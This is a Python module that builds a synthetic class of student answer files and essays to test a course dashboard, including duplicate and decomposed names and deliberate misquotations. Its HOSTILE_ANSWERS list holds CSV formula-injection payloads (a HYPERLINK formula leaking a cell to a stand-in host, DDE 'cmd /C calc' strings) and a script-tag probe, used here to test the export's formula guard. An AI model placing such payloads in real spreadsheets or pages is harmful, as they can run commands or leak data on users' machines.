"""A synthetic class: seeded hand-ins written by the learner's own writers, for the dashboard's
demo, its benchmark and the tests (``scripts/make_synthetic_class.py`` is the command line).

Every answer is checked by the real :func:`course_lib.questions.check_answer` and saved as the
real :func:`course_lib.store.make_record`; every answers file is the real
:func:`course_lib.exports.records_to_csv` (so it has :data:`course_lib.exports.CSV_COLUMNS`, the
learner id and name, and the reversible formula guard) under the real
:func:`course_lib.exports.export_name` (``Mina-Park_course_2026-10-06_answers.csv``); every essay
is the real :func:`course_lib.capstone_export.to_html` / :func:`~course_lib.capstone_export.to_markdown`
with the learner id, named like :func:`course_lib.capstone_export.export` names it. Every quotation
is taken word for word from the minutes (a few students misquote on purpose, so the quotation check
has something to find). The class also holds what real classes hand in: two students with the same
name, a name typed in decomposed Hangul (NFD), students who typed no name, students who handed in
one file per lesson rather than one for the course, and answers that look like spreadsheet
formulas.
"""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd

from course_lib.capstone import (
    QUESTION,
    RUBRIC,
    CapstoneState,
    Evidence,
    sentences,
)
from course_lib.capstone_export import FORMATS, LESSON, to_html, to_markdown
from course_lib.exports import CSV_COLUMNS, export_name, records_to_csv
from course_lib.fileio import write_atomic
from course_lib.questions import QuestionBank, check_answer
from course_lib.store import make_record

__all__ = ["CSV_COLUMNS", "ClassManifest", "export_text", "make_class", "student_records"]

_FIRST = [
    "Ann", "Bo", "Carol", "Dave", "Eun-ji", "Farid", "Grace", "Hyun-woo", "Ines", "Jae",
    "Kofi", "Lena", "Min-jun", "Nadia", "Olu", "Pavel", "Qing", "Rosa", "Seo-yeon", "Tariq",
    "Uma", "Viktor", "Wei", "Ximena", "Yuki", "Zanele",
]  # fmt: skip
_LAST = [
    "Kim", "Park", "Lee", "Choi", "Chen", "Wang", "Smith", "Garcia", "Okafor", "Novak",
    "Ivanova", "Haddad", "Tanaka", "Silva", "Nguyen", "Müller", "Dubois", "Rossi",
]  # fmt: skip
#: Short answers that a spreadsheet would run as formulas (they must survive as text).
HOSTILE_ANSWERS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 is my guess, but the minutes say more",
    "'=1+1 (an apostrophe first, on purpose)",
    "박금철 [Pak Kum Chol] 김일성 <script>alert(1)</script>",
]


@dataclass
class ClassManifest:
    """What :func:`make_class` wrote.

    Attributes
    ----------
    folder : Path
    students : int
    rows : int
        Data rows written in all answer exports.
    files : list of str
        Every file written, relative to ``folder``.
    capstones : int
    learners : list of dict
        ``learner_id``, ``name``, ``folder``, ``rows``, ``capstone``, ``files`` per student.
    """

    folder: Path
    students: int = 0
    rows: int = 0
    files: list[str] = field(default_factory=list)
    capstones: int = 0
    learners: list[dict[str, Any]] = field(default_factory=list)


def _slug(name: str) -> str:
    text = unicodedata.normalize("NFC", name)
    return re.sub(r"[\W_]+", "_", text).strip("_").lower()


def export_text(
    records: Sequence[Mapping[str, Any]],
    learner_id: str,
    learner_name: str,
    bank: QuestionBank | None = None,
    lesson: int | None = None,
) -> str:
    """A learner's answers file, exactly as the learner's export writes it (pure).

    Parameters
    ----------
    records : sequence of dict
        Saved records (:func:`course_lib.store.make_record`).
    learner_id : str
    learner_name : str
    bank : QuestionBank, optional
        Orders the rows and spells out ``answer_text``.
    lesson : int, optional
        Only this lesson's answers.

    Returns
    -------
    str
        :func:`course_lib.exports.records_to_csv`'s text (header :data:`CSV_COLUMNS`).
    """
    return records_to_csv(records, bank, learner_name, learner_id=learner_id, lesson=lesson)


def _choice(q: Mapping[str, Any], rng: random.Random, skill: float) -> Any:
    options = q["options"]
    right = [o["id"] for o in options if o.get("correct")]
    wrong = [o["id"] for o in options if not o.get("correct")]
    if q["type"] == "single_choice":
        if rng.random() < skill or not wrong:
            return right[0]
        # The first distractor misleads most: that is what the dashboard should find.
        return wrong[0] if rng.random() < 0.6 else rng.choice(wrong)
    if q["type"] in ("multiple_choice", "evidence"):
        picked = [i for i in right if rng.random() < skill + 0.1]
        picked += [i for i in wrong if rng.random() < (1 - skill) / 2]
        return picked or [rng.choice(right)]
    order = list(q["correct_order"])
    if rng.random() > skill:
        i, j = rng.sample(range(len(order)), 2)
        order[i], order[j] = order[j], order[i]
    return order


def student_records(
    bank: QuestionBank,
    rng: random.Random,
    skill: float,
    lessons: Sequence[int],
    start: datetime,
    hostile: str | None = None,
    name: str = "",
    learner_id: str = "",
) -> list[dict[str, Any]]:
    """One synthetic learner's latest answers, as the store saves them (pure, given the generator).

    Parameters
    ----------
    bank : QuestionBank
    rng : random.Random
    skill : float
        0-1: the chance of a right first try.
    lessons : sequence of int
        Lessons the learner worked through.
    start : datetime
        The first lesson's time (aware).
    hostile : str, optional
        Used as this learner's first short answer.
    name, learner_id : str
        Saved in each record, as the question widgets save them.

    Returns
    -------
    list of dict
        Records made by :func:`course_lib.store.make_record`.
    """
    records = []
    for q in bank:
        if q["lesson"] not in lessons or rng.random() > 0.93:
            continue
        when = start + timedelta(days=7 * (q["lesson"] - 1), minutes=rng.randint(0, 240))
        saved_at = when.isoformat(timespec="seconds").replace("+00:00", "Z")
        if q["type"] == "short_answer":
            text = hostile or rng.choice(sentences(q["model_answer"]) or ["I am not sure."])
            hostile = None
            records.append(
                make_record(
                    check_answer(q, text),
                    q,
                    name,
                    saved_at,
                    learner_id=learner_id or None,
                    revealed=rng.random() < 0.2,
                    attempts=1,
                    hints_used=0,
                )
            )
            continue
        first = check_answer(q, _choice(q, rng, skill))
        attempts, revealed, final = 1, False, first
        if not first["correct"]:
            revealed = rng.random() < 0.35
            attempts += rng.randint(0, 2)
            if attempts > 1:
                final = check_answer(q, _choice(q, rng, min(1.0, skill + 0.3)))
        records.append(
            make_record(
                final,
                q,
                name,
                saved_at,
                learner_id=learner_id or None,
                revealed=revealed,
                attempts=attempts,
                hints_used=rng.randint(0, 2) if attempts > 1 else 0,
                first_try_correct=bool(first["correct"]),
            )
        )
    return records


def _essay(turns: pd.DataFrame, rng: random.Random, misquote: bool) -> CapstoneState:
    chosen = rng.sample([int(t) for t in turns["turn"]], 5)
    by_turn = dict(zip(turns["turn"].astype(int), turns["text"].astype(str), strict=True))
    speakers = dict(zip(turns["turn"].astype(int), turns["speaker"].astype(str), strict=True))
    evidence = []
    paragraphs = [
        "China courted North Korea with shared memories of the war and with advice on how to "
        "fight Moscow in print, while Kim kept his own room to move."
    ]
    for t in chosen:
        quote = rng.choice(sentences(by_turn[t]))
        evidence.append(Evidence(t, speakers[t], quote))
        paragraphs.append(
            f"In turn {t} {speakers[t]} says “{quote}” (Minutes, turn {t}). This shows how the "
            "two leaders weighed their words while the split with Moscow deepened."
        )
    if misquote:
        t = chosen[0]
        paragraphs.append(
            f"He also says “we will break with Moscow tomorrow” (Minutes, turn {t}), which the "
            "minutes do not support."
        )
    return CapstoneState(
        essay="\n\n".join(paragraphs),
        evidence=evidence,
        checks={k: rng.random() < 0.7 for k, _ in RUBRIC},
        question=QUESTION,
    )


def _student_name(i: int) -> str:
    """The name student ``i`` typed: a few are chosen to try the matching of names."""
    if i in (1, 2):
        return "Kim Min-jun"  # two students typed the same name
    if i == 3:
        return unicodedata.normalize("NFD", "박금철")  # decomposed Hangul
    if i == 4:
        return unicodedata.normalize("NFC", "박금철")  # the same name, composed
    if i % 37 == 5:
        return ""  # typed no name: the file is named by the id, the folder by the LMS
    return f"{_FIRST[i % len(_FIRST)]} {_LAST[(i // len(_FIRST)) % len(_LAST)]}"


def _write_answers(
    root: Path,
    sub: str,
    records: list[dict[str, Any]],
    learner: tuple[str, str],
    bank: QuestionBank,
    scopes: list[int | None],
    times: tuple[datetime, datetime],
) -> list[str]:
    """Write one answers export per scope (``None``: the whole course); the files written.

    ``learner`` is ``(learner_id, name)``; ``times`` is ``(start, done)``: when lesson 1 was
    taught and when the student finished.
    """
    learner_id, name = learner
    start, done = times
    written = []
    for scope in scopes:
        when = done if scope is None else start + timedelta(days=7 * (scope - 1), hours=5)
        text = export_text(records, learner_id, name, bank, lesson=scope)
        file = f"{sub}/{export_name('answers', 'csv', name, learner_id, scope, when)}"
        write_atomic(root / file, text)
        written.append(file)
    return written


def _write_essay(
    root: Path,
    sub: str,
    turns: pd.DataFrame,
    rng: random.Random,
    learner: tuple[str, str],
    fmt: str,
    when: datetime,
) -> str:
    """Write a capstone essay export (one in five misquotes the minutes); the file written."""
    learner_id, name = learner
    state = _essay(turns, rng, misquote=rng.random() < 0.2)
    state.name = name
    when = when + timedelta(hours=rng.randint(0, 48))
    render = to_html if fmt == "html" else to_markdown
    body = render(state, when, learner_id=learner_id)
    ext = FORMATS[fmt][1]
    file = f"{sub}/{export_name('essay', ext, name, learner_id, LESSON, when)}"
    write_atomic(root / file, body)
    return file


def make_class(
    folder: str | Path,
    n: int = 30,
    seed: int = 1963,
    bank: QuestionBank | None = None,
    turns: pd.DataFrame | None = None,
    start: datetime | None = None,
) -> ClassManifest:
    """Write a synthetic class's hand-ins: one folder per student, answers and perhaps an essay.

    Parameters
    ----------
    folder : str or Path
        Created if missing; existing files of the same names are replaced.
    n : int
        Students.
    seed : int
        The same seed writes the same class.
    bank : QuestionBank, optional
        Default: the course's bank.
    turns : DataFrame, optional
        Default: the minutes' turns.
    start : datetime, optional
        When lesson 1 was taught (aware; default 1 September 2026, 09:00 UTC).

    Returns
    -------
    ClassManifest
    """
    if bank is None:
        from course_lib.questions import load_bank

        bank = load_bank()
    if turns is None:
        from course_lib.data import load_turns

        turns = load_turns()
    start = start or datetime(2026, 9, 1, 9, 0, tzinfo=UTC)
    root = Path(folder).expanduser()
    rng = random.Random(seed)
    manifest = ClassManifest(folder=root)
    all_lessons = sorted({q["lesson"] for q in bank})
    for i in range(n):
        learner_id = f"{rng.getrandbits(128):032x}"
        name = _student_name(i)
        sub = f"{i + 1:03d}_{_slug(name) or 'student'}"
        skill = rng.uniform(0.35, 0.95)
        reached = rng.choices(range(1, len(all_lessons) + 1), weights=[1, 1, 2, 3, 8][: len(all_lessons)])[0]  # fmt: skip
        lessons = all_lessons[:reached]
        hostile = HOSTILE_ANSWERS[i % len(HOSTILE_ANSWERS)] if i % 5 == 0 else None
        records = student_records(bank, rng, skill, lessons, start, hostile, name, learner_id)
        done = start + timedelta(days=7 * (reached - 1), hours=5)
        # Most hand in one course file; every fourth student one file per lesson.
        scopes: list[int | None] = list(lessons) if i % 4 == 1 else [None]
        learner = (learner_id, name)
        written = _write_answers(root, sub, records, learner, bank, scopes, (start, done))
        manifest.rows += len(records)
        has_essay = reached == len(all_lessons) and rng.random() < 0.85
        if has_essay:
            handed_in = start + timedelta(days=7 * len(all_lessons))
            fmt = "html" if i % 3 else "md"
            written.append(_write_essay(root, sub, turns, rng, learner, fmt, handed_in))
            manifest.capstones += 1
        manifest.files += written
        manifest.learners.append(
            {
                "learner_id": learner_id,
                "name": name,
                "folder": sub,
                "rows": len(records),
                "capstone": has_essay,
                "files": written,
            }
        )
    manifest.students = n
    return manifest
